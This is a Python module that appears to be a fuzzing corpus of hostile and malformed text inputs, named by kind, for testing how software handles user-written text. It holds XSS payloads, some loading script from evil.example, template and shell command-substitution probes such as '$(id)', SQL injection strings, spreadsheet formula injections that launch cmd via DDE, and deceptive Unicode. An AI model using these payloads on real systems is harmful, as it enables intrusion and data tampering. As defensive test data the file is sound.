"""Two hundred texts that a hostile hand might write where people write: made from few patterns, each with its name."""

MOST = 8192

MARKUP = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></ScRiPt>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><script>alert&#40;1)</script>", "<iframe src=javascript:alert(1)></iframe>", "<a href=\"javascript:alert(1)\">点</a>",
    "<body onload=alert(1)>", "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0>",
    "<base href=//evil.example>", "<form action=//evil.example><input name=csrf_token>", "</form><form action=/me/sign-out>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea>", "</textarea><b>外面</b>", "</title><h1>标题</h1>", "</main></body></html>", "<!--", "-->", "<![CDATA[ x ]]>", "<?php echo 1 ?>", "<plaintext>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<template><p>",
    "\"><b>", "'><b>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=alert(1)", "&lt;script&gt;", "&#60;script&#62;",
    "&amp;lt;", "&", "&&&nbsp",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "<x onclick=alert(1)>点</x>",
    "<object data=//evil.example>", "<embed src=x>",
]
TEMPLATES = ["{{7*7}}", "{% raw %}", "{%", "{{ csrf_token() }}", "{{ config }}", "{#", "%s%n%x", "%(n)s", "{0}", "{x}", "{", "}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "$(id)", "`id`",
             "{{''.__class__.__mro__}}"]
MARKDOWN = [
    "# 标题", "###### 六级", "**粗**", "*" * 400, "_" * 400, "[" * 500, "![](" * 200, "](" * 300, "> " * 300, "- " * 300, "1. " * 300, "`" * 401,
    "~~~\n" * 50, "| a " * 200,
    "[点](javascript:alert(1))", "[点](//evil.example)", "![图](https://evil.example/x.png)", "<https://evil.example>", "[a]: https://evil.example",
    "---\n" * 60, "\\" * 500,
    "***" * 200, "[[" * 200 + "]]" * 200, "((" * 300, "$$" * 200,
]
DIRECTION = ["\u202e反着写", "好\u202a坏\u202c", "\u2066\u2067\u2068x\u2069", "\u200f右", "\u200e左", "\u061c", "\u202d" * 50 + "x", "王\u202e婆阿",
    "文件\u202etxt.exe", "\u2028行\u2029段", "א ב 右 左 א",
             "مرحبا يا جار"]
INVISIBLE = ["零\u200b宽", "\ufeff头", "\u2060\u2061\u2062x", "软\u00ad连字", "\u180e蒙", "\U000e0041标签\U000e007f", "\u3164填", "\u115f\u1160",
    "\ufff9注\ufffa释\ufffb", "a\x1b[31m红", "铃\x07",
             "退\x08格", "回\r车", "竖\x0b进\x0c页", "\x85下", "\x7f删", "\ue000私", "\ufffe", "\U0001f3f4\U000e0067\U000e0062\U000e007f"]
NAMES = ["ВПН", "раypal", "ｓｃｒｉｐｔ", "＜script＞", "王阿婆", "王阿婆 说：", "书记：已经同意", "第 1,287 号", "已记录，第 1 号", "Ꭺdmin", "аdmіn", "１２号", "⼀⼆⼗", "𝒶𝓁𝑒𝓇𝓉",
    "Ⓐⓓⓜⓘⓝ", "ﬀﬁﬂ", "K℃Å"]
FORMULAS = ["=1+1", "=HYPERLINK(\"http://evil.example\",\"点\")", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "=cmd|' /C calc'!A0", "＝1+1", "\"=1+1\"",
    ";=1+1", ",=1+1", "=1+1\n=2+2", "'=1+1",
            "=IMPORTXML(\"http://evil.example\",\"//a\")", "|calc", "%0A=1+1", "\u200b=1+1", " =1+1", "DDE(\"cmd\";\"/C calc\")"]
QUOTES = ["“" * 200 + "”" * 200, "\"" * 500, "'" * 500, "«‹›»" * 50, "「『" * 100, "”“", "\\\"", "\\u003cscript\\u003e", "';DROP TABLE statement;--",
    "' OR 1=1 --", "\");alert(1);//", "</", "<", ">", "]]>",
          "{\"a\":1}", "[1,2", "null", "true", "NaN"]
SIGNS = ["\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 30, "\U0001f9d1\U0001f3fd\u200d\U0001f9b3" * 60, "e" + "\u0301" * 500,
    "Z̸̡̛̤͓" * 60, "\u0e49" * 300, "﷽" * 60, "𒐫" * 60,
         "👍" * 300, "\U0001f1e8\U0001f1f3" * 100, "口" * 140, "口" * 141, "㍿" * 70, "İıſẞ", "a\u0300\u0301", "가" * 140, "á" * 139 + "\u0301"]
LENGTHS = ["x" * MOST, "x" * (MOST + 1), "x" * (MOST - 1), "长" * 2730, "长" * 2731, "长" * 2730 + "xx", "长" * 2730 + "xxx", "👍" * 2048, "👍" * 2049,
    "\n" * 200 + "x", "x\n" * 1000, "无空格" * 400, "W" * 1000,
           "http://" + "a" * 300]

KINDS = {"markup": MARKUP, "template": TEMPLATES, "markdown": MARKDOWN, "direction": DIRECTION, "invisible": INVISIBLE, "name": NAMES, "formula": FORMULAS,
         "quote": QUOTES, "sign": SIGNS, "length": LENGTHS}
TEXTS = {f"{kind} {number}": text for kind, texts in KINDS.items() for number, text in enumerate(texts, 1)}
